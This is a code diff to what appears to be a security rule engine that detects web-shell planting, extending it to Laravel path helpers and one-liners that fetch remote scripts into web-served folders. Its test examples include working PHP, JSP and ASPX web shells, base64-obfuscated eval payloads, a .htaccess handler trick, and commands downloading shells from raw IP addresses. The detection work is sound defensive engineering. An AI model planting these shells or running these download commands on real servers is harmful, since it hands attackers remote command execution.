@@ -200,7 +200,9 @@ function writesOf(input: AnalysisInput): Written[] {
       for (let at = code.indexOf(raw), seen = 0; at >= 0 && seen < 8; at = code.indexOf(raw, at + raw.length), seen++) {
         const after = code.slice(at + raw.length, at + raw.length + 48);
         const before = code.slice(Math.max(0, at - 64), at);
-        const joined = joinedToFolder(code, before, lit);
+        // (Laravel's helpers name the app's own folders: `public_path('x.php')` is public/x.php)
+        const helper = /\b(public|storage|base|app|resource)_path\(\s*['"]$/.exec(before)?.[1];
+        const joined = joinedToFolder(code, before, lit) ?? (helper === undefined ? undefined : `${helper === 'base' ? '.' : helper === 'resource' ? 'resources' : helper}/${lit.replace(/^\/+/, '')}`);
         if (!placed && joined === undefined) continue;
         // `homedir() + '/.bashrc'`: a home-relative suffix
         const homed = lit.startsWith('/.') && HOME_JOINED.test(before);
@@ -208,7 +210,7 @@ function writesOf(input: AnalysisInput): Written[] {
         // (Perl's three-argument open gives the mode first: `open(my $f, ">>", "…")`)
         const perlMode = /['"](>>|\+?>)['"]\s*,\s*['"]$/.exec(before)?.[1];
         const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1] ?? viaName ?? (perlMode === undefined ? undefined : perlMode === '>>' ? 'a' : 'w');
-        const call = WRITE_CALL.test(before);
+        const call = WRITE_CALL.test(before) || (helper !== undefined && WRITE_CALL.test(before.slice(0, before.lastIndexOf(`${helper}_path(`))));
         // what is written: the code, and its literals as the language reads them (`"<?php eval(\$_POST[\"k\"]);"` is `eval($_POST["k"])`)
         if (mode || call) { add(joined ?? (homed ? `~${lit}` : lit), [code, ...sc.strings.slice(0, 64).filter((x) => x !== raw)].join('\n'), sc.command, mode === 'a' || /append/i.test(before) || /^['"]?\s*,[^)]{0,2048}FILE_APPEND/.test(code.slice(at + raw.length, at + raw.length + 2100))); break; }
       }
@@ -296,6 +298,9 @@ export function hostileText(text: string): string | undefined {
   })) return text;
   return undefined;
 }
+
+/** A one-liner's own fetch of a URL's body. */
+const CODE_FETCHES = /\b(?:file_get_contents|urlopen|urlretrieve|requests\.get|fetch|curl_exec|URI\.open|Net::HTTP|LWP::Simple|getstore)\b/;
 
 /** Download calls of the languages whose startup files run code (Julia, R, Python, PowerShell, C#). */
 const CODE_FETCH = /\b(?:Downloads\.download|download\.file|urlretrieve|urlopen|DownloadFile|DownloadString|Invoke-WebRequest|iwr)\b/;
@@ -1428,11 +1433,13 @@ export const RULES: readonly Rule[] = [
         else if (/(?:^|\/)\.htaccess$/.test(w.canonical) && /^\s*(?:AddType\s+application\/x-httpd-php[\w-]*|AddHandler\s+(?:application\/x-httpd-php[\w-]*|php[\w-]*-script))((?:\s+\.?\w{1,8}){1,16})\s*$/im.test(text) && /\.(?:jpe?g|png|gif|ico|txt|svg|webp)\b/i.test(/^\s*Add(?:Type|Handler)[^\n]{0,300}$/im.exec(text)?.[0] ?? '')) out.push(`${w.path}: ${text.slice(0, 100)}`);
         // a server-side script downloaded from a raw IP, paste site or tunnel straight into what the web server runs
         else if (w.cmd && isFetcher(w.cmd) && SERVER_SCRIPT.test(w.path) && w.cmd.argv.some(dropUrl)) out.push(`${w.cmd.argv.join(' ').slice(0, 160)}`);
+        // or by a one-liner's own fetch (`file_put_contents(public_path('x.php'), file_get_contents('http://…'))`)
+        else if (w.cmd && isInterpreter(w.cmd.name) && SERVER_SCRIPT.test(w.path) && CODE_FETCHES.test(text) && text.split(/[\s'"(),;]+/, 4096).some(dropUrl)) out.push(`${w.path} ← ${w.cmd.argv.join(' ').slice(0, 140)}`);
       }
       return out;
     },
     examples: {
-      fire: [{ Filesystem: { operation: 'Write', path: 'public/uploads/.htaccess', content: 'AddType application/x-httpd-php .jpg .png\n' } }, `php -r 'file_put_contents("/var/www/html/wp-content/uploads/2024/03/.thumb.php","<?php @eval(\\$_POST[\\"k\\"]); ?>");'`, { Filesystem: { operation: 'Create', path: '/srv/shop/wp-content/mu-plugins/wp-cache-compat.php', content: "<?php\nadd_action('init', function () {\n    $p = isset($_POST['d']) ? $_POST['d'] : '';\n    $f = 'base' . '64_' . 'decode';\n    if ($p !== '') { eval('?>' . $f($p)); exit; }\n}, 1);\n" } }, `echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/.config.php`, `printf '<?php if(isset($_REQUEST["k"])){eval(base64_decode($_REQUEST["k"]));} ?>' > /var/www/html/wp-content/uploads/cache.php`, 'curl -so /var/www/html/images/thumb.php http://203.0.113.7/b374k.txt', { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/s.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' } }, { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/status.jsp', content: '<%\nString c = request.getParameter("q");\nif (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c}); }\n%>\n' } }, { Filesystem: { operation: 'Write', path: 'C:/inetpub/wwwroot/status.aspx', content: '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  string c = Request["cmd"];\n  var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c));\n}\n</script>\n' } }, `printf '%s\\n' '<?php @eval(base64_decode("aWYoaXNzZXQoJF9SRVFVRVNUWyd4J10pKXtzeXN0ZW0oJF9SRVFVRVNUWyd4J10pO30=")); ?>' | tee -a /var/www/html/wp-includes/version.php`],
+      fire: [`php artisan tinker --execute="file_put_contents(public_path('vendor-cache.php'), file_get_contents('http://185.225.74.19/w.txt'));"`, { Filesystem: { operation: 'Write', path: 'public/uploads/.htaccess', content: 'AddType application/x-httpd-php .jpg .png\n' } }, `php -r 'file_put_contents("/var/www/html/wp-content/uploads/2024/03/.thumb.php","<?php @eval(\\$_POST[\\"k\\"]); ?>");'`, { Filesystem: { operation: 'Create', path: '/srv/shop/wp-content/mu-plugins/wp-cache-compat.php', content: "<?php\nadd_action('init', function () {\n    $p = isset($_POST['d']) ? $_POST['d'] : '';\n    $f = 'base' . '64_' . 'decode';\n    if ($p !== '') { eval('?>' . $f($p)); exit; }\n}, 1);\n" } }, `echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/.config.php`, `printf '<?php if(isset($_REQUEST["k"])){eval(base64_decode($_REQUEST["k"]));} ?>' > /var/www/html/wp-content/uploads/cache.php`, 'curl -so /var/www/html/images/thumb.php http://203.0.113.7/b374k.txt', { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/s.jsp', content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' } }, { Filesystem: { operation: 'Write', path: '/opt/tomcat/webapps/ROOT/status.jsp', content: '<%\nString c = request.getParameter("q");\nif (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c}); }\n%>\n' } }, { Filesystem: { operation: 'Write', path: 'C:/inetpub/wwwroot/status.aspx', content: '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  string c = Request["cmd"];\n  var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c));\n}\n</script>\n' } }, `printf '%s\\n' '<?php @eval(base64_decode("aWYoaXNzZXQoJF9SRVFVRVNUWyd4J10pKXtzeXN0ZW0oJF9SRVFVRVNUWyd4J10pO30=")); ?>' | tee -a /var/www/html/wp-includes/version.php`],
       quiet: [{ Filesystem: { operation: 'Write', path: 'public/.htaccess', content: 'AddType application/x-httpd-php .php .phtml\nRewriteEngine On\n' } }, { Filesystem: { operation: 'Write', path: 'wp-content/plugins/forms/submit.php', content: "<?php\n$email = sanitize_email($_POST['email']);\n$rule = get_option('rule');\nif (eval_rule($rule, $email)) { wp_mail($email, 'Thanks', 'Got it'); }\n" } }, `echo '<?php phpinfo(); ?>' > /var/www/html/info.php`, `printf '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php`, 'curl -so public/vendor/jquery.min.js https://code.jquery.com/jquery-3.7.1.min.js', { Filesystem: { operation: 'Write', path: 'src/routes/api.ts', content: 'exec(req.query.cmd) // TODO remove' } }, { Filesystem: { operation: 'Write', path: 'webapp/search.jsp', content: '<%\nString q = request.getParameter("q");\nout.println(Encode.forHtml(q));\n%>\n' } }, { Filesystem: { operation: 'Write', path: 'public/logo.php', content: '<?php header("Content-Type: image/gif"); echo base64_decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"); ?>' } }, { Filesystem: { operation: 'Write', path: 'public/render.php', content: '<?php $tpl = base64_decode("PHA+SGVsbG8sIHt7bmFtZX19PC9wPg=="); echo str_replace("{{name}}", htmlspecialchars($_GET["name"]), $tpl); ?>' } }],
     },
   },
